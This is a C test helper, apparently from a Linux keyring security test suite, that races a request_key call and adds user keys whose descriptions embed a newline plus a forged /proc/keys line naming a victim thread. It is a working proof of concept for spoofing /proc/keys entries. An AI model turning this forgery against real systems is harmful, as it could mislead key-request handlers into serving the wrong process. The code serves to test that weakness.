/*
 * forge_line: a requester that plants forged /proc/keys lines for its own
 * authorization key (issue 20, item 1).
 *
 *   forge_line DESCRIPTION CALLOUT VICTIM_TID NFORGE [owner-only | owner=UID]
 *
 * One thread calls request_key("user", DESCRIPTION, CALLOUT) into the
 * process keyring. The main thread polls /proc/keys for the authorization
 * key the kernel makes for that request (the line that names the asking
 * thread, `pid:<tid>`), and at once adds NFORGE user keys, viewable by
 * everyone, whose descriptions are "f<i>", a newline, and a copy of that
 * line naming VICTIM_TID instead: the kernel sorts keys by (random)
 * serial, so with a few of them one likely comes before the real line.
 * With "owner-only" the keys go into the user keyring instead (which a
 * request made in a session keyring of its own does not search), with the
 * kernel's default permissions: only their owner's uid may view them.
 * With "owner=UID" (run as root) they are viewable by everyone, as
 * before, and then given to UID: another user's keys.
 *
 * Prints "forged <n> before <m>" (keys planted; how many sort before the
 * real line) or "forged 0 before 0" when the line was not seen in time,
 * then "ok <hex payload>" or "err <errno>" for the request.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "outcome.h"

static const char *desc, *callout;
static volatile pid_t asking;
static volatile int done;
static long result, read_len;
static int result_errno;
/* Read by the asking thread: its process keyring is its own (credentials
 * are per thread), so only it possesses the result. */
static unsigned char payload[2048];

static void *ask(void *arg)
{
	(void)arg;
	asking = (pid_t)syscall(SYS_gettid);
	result = syscall(SYS_request_key, "user", desc, callout, KEY_SPEC_PROCESS_KEYRING);
	result_errno = errno;
	if (result >= 0) {
		read_len = syscall(SYS_keyctl, KEYCTL_READ, result, payload, sizeof payload);
		if (read_len < 0)
			result_errno = errno;
	}
	__atomic_store_n(&done, 1, __ATOMIC_SEQ_CST);
	return NULL;
}

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* The whole of /proc/keys, NUL-terminated, in `buf`. */
static size_t read_keys(char *buf, size_t cap)
{
	int fd = open("/proc/keys", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	size_t n = 0;
	ssize_t r;
	while (n < cap - 1 && (r = read(fd, buf + n, cap - 1 - n)) > 0)
		n += (size_t)r;
	close(fd);
	buf[n] = 0;
	return n;
}

int main(int argc, char **argv)
{
	long give_to = -1;
	if (argc == 6 && strncmp(argv[5], "owner=", 6) == 0)
		give_to = strtol(argv[5] + 6, NULL, 10);
	if (argc != 5 && !(argc == 6 && (strcmp(argv[5], "owner-only") == 0 || give_to >= 0))) {
		fprintf(stderr, "usage: forge_line DESCRIPTION CALLOUT VICTIM_TID NFORGE [owner-only | owner=UID]\n");
		return 2;
	}
	desc = argv[1];
	callout = argv[2];
	long victim = strtol(argv[3], NULL, 10);
	int nforge = atoi(argv[4]);
	int owner_only = argc == 6 && give_to < 0;
	long ring = owner_only ? KEY_SPEC_USER_KEYRING : KEY_SPEC_PROCESS_KEYRING;
	long perm = 0x3f3f3f3f;
	if (nforge < 1 || nforge > 64)
		nforge = 16;
	pthread_t t;
	if (pthread_create(&t, NULL, ask, NULL) != 0)
		return 2;
	while (!asking)
		;
	char pid_tag[32];
	snprintf(pid_tag, sizeof pid_tag, " pid:%d ", (int)asking);
	static char keys[1 << 20];
	long forged[64];
	int planted = 0, before = 0;
	double give_up = now() + 5;
	while (!__atomic_load_n(&done, __ATOMIC_SEQ_CST) && now() < give_up) {
		read_keys(keys, sizeof keys);
		char *line = NULL;
		for (char *l = strtok(keys, "\n"); l; l = strtok(NULL, "\n")) {
			if (strstr(l, " .request_ ") && strstr(l, pid_tag)) {
				line = l;
				break;
			}
		}
		if (!line)
			continue;
		unsigned long serial = strtoul(line, NULL, 16);
		/* The real line, naming the victim: same serial, flags,
		 * target and callout length. */
		char *at = strstr(line, pid_tag);
		char *rest = strchr(at + 1, ' ');
		char text[512];
		for (int i = 0; i < nforge; i++) {
			snprintf(text, sizeof text, "f%d\n%.*s pid:%ld%s\n", i, (int)(at - line), line,
				 victim, rest);
			long id = syscall(SYS_add_key, "user", text, "p", 1, ring);
			if (id < 0)
				continue;
			if (!owner_only)
				syscall(SYS_keyctl, KEYCTL_SETPERM, id, perm);
			if (give_to >= 0 && syscall(SYS_keyctl, KEYCTL_CHOWN, id, give_to, -1) != 0) {
				syscall(SYS_keyctl, KEYCTL_INVALIDATE, id);
				continue;
			}
			forged[planted++] = id;
			if ((unsigned long)id < serial)
				before++;
		}
		break;
	}
	pthread_join(t, NULL);
	/* Gone with their last link. In the user keyring they are not
	 * possessed, and their owner may only view them: unlinking needs
	 * only the keyring's permission. */
	for (int i = 0; i < planted; i++) {
		if (owner_only)
			syscall(SYS_keyctl, KEYCTL_UNLINK, forged[i], ring);
		else
			syscall(SYS_keyctl, KEYCTL_INVALIDATE, forged[i]);
	}
	printf("forged %d before %d\n", planted, before);
	fflush(stdout);
	if (result < 0)
		print_err(result_errno);
	else
		print_read(read_len, result_errno, payload, sizeof payload);
	return 0;
}
